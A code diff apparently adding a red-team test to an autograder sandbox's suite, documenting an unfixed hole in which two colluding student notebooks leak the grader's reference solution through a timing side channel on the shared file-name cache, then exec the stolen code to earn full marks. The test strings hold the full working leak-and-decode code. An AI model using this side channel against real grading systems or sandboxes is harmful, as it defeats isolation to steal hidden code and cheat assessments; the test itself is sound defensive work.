@@ -235,3 +235,93 @@ def test_the_name_cache_carries_nothing_from_a_kernel_that_held_a_reference(tmp_
     read = eval(printed(judged, 5))  # noqa: S307 - the repr of a str this test's notebook printed
     assert sum(a == b for a, b in zip(read, sent)) < 20, (read, sent)
     assert processes_left() == []
+
+
+# Names a classmate looks up, and reads back by timing (the two colluding notebooks share them).
+CLASSMATE_NAMES = """\
+import os, numpy
+FOLDER, TAG, COPIES, N = os.path.dirname(numpy.__file__), %r, 15, 1760
+def _names(i):
+    return [f'{FOLDER}/c{TAG}_{i}_{c}' for c in range(COPIES)]
+CAL = [1, 0] * 16
+"""
+
+WEIGHTS_THAT_LEAVE_THE_REFERENCE_BEHIND = """\
+SENT = []
+def attention_weights(scores):
+    if SEEN and not SENT:
+        SENT.append(1)
+        import ast
+        tree = ast.parse(SEEN[0])
+        for node in ast.walk(tree):
+            if isinstance(node, ast.FunctionDef) and isinstance(node.body[0], ast.Expr):
+                node.body = node.body[1:] or [ast.Pass()]
+        data = ast.unparse(tree).encode()[:N // 8 - 2]
+        data = len(data).to_bytes(2, 'big') + data
+        bits = CAL + [(b >> k) & 1 for b in data for k in range(8)]
+        for i, bit in enumerate(bits):
+            for name in _names(i) if bit else []:
+                try:
+                    os.stat(name)
+                except OSError:
+                    pass
+    return softmax(scores)
+"""
+
+READ_AND_RUN_WHAT_A_CLASSMATE_LEFT = """\
+import time, statistics
+def _took(name):
+    t = time.perf_counter_ns()
+    try:
+        os.stat(name)
+    except OSError:
+        pass
+    return time.perf_counter_ns() - t
+def _bit(i, thr):
+    return sum(_took(n) < thr for n in _names(i)) * 2 > COPIES
+cal = [[_took(n) for n in _names(i)] for i in range(32)]
+one = statistics.median(t for i in range(0, 32, 2) for t in cal[i]); zero = statistics.median(t for i in range(1, 32, 2) for t in cal[i])
+thr = (one + zero) / 2
+votes = [0] * (N + 32)
+for p in range(3):  # three passes over every bit, five of its names each: a burst of noise hits one
+    for i in range(32, N + 32):
+        votes[i] += sum(_took(n) < thr for n in _names(i)[5 * p:5 * p + 5])
+def _byte(j):
+    return sum((votes[32 + 8 * j + k] * 2 > COPIES) << k for k in range(8))
+length = _byte(0) * 256 + _byte(1)
+REF = bytes(_byte(2 + j) for j in range(min(length, N // 8 - 2))).decode('utf-8', 'replace')
+print('READ', length, 'bytes', one, zero); print(repr(REF))
+try:
+    exec(REF, globals())
+    print('RAN THE REFERENCE')
+except Exception as error:
+    print('COULD NOT RUN', type(error).__name__)
+"""
+
+NO_SOFTMAX = """\
+import numpy as np
+def softmax(x, axis=-1):
+    return x  # B cannot write softmax
+"""
+
+
+@pytest.mark.xfail(strict=False, reason="open (red-team round r39): the machine's name cache is shared")
+@needs_sandbox
+@needs_groups
+def test_a_reference_lent_to_one_student_never_reaches_a_classmate(tmp_path):
+    """Red-teamed in round r39, not fixed: two colluding classmates graded one after the other on
+    one machine, as nbgrader autograde grades a class. A gets softmax wrong; its lending kernel,
+    holding softmax's reference, looks up a name that does not exist for each 1 bit of the source
+    (its docstring left out: 216 bytes, 15 names a bit); B times its own look-ups of the same names,
+    runs what it read, and is graded with the reference's softmax: full marks (twice of two here),
+    where B's control, without A, keeps 0.04 of them. Run with --runxfail to see it fail."""
+    names = CLASSMATE_NAMES.replace("%r", repr(f"{random.getrandbits(32):08x}"))
+    (tmp_path / "a").mkdir(), (tmp_path / "b").mkdir()
+    a = judge_notebook(notebook(tmp_path / "a" / "nb.ipynb", [
+        WRONG_SOFTMAX_RECORDING_THE_REFERENCE, names, ("grade", "softmax"),
+        WEIGHTS_THAT_LEAVE_THE_REFERENCE_BEHIND, ("grade", "attention_weights")]))
+    b = judge_notebook(notebook(tmp_path / "b" / "nb.ipynb", [
+        NO_SOFTMAX, names, READ_AND_RUN_WHAT_A_CLASSMATE_LEFT, ("grade", "softmax")]))
+    assert a.steps["softmax"].fraction < 1
+    assert b.steps["softmax"].fraction < 0.5, printed(b, 2)
+    assert processes_left() == []
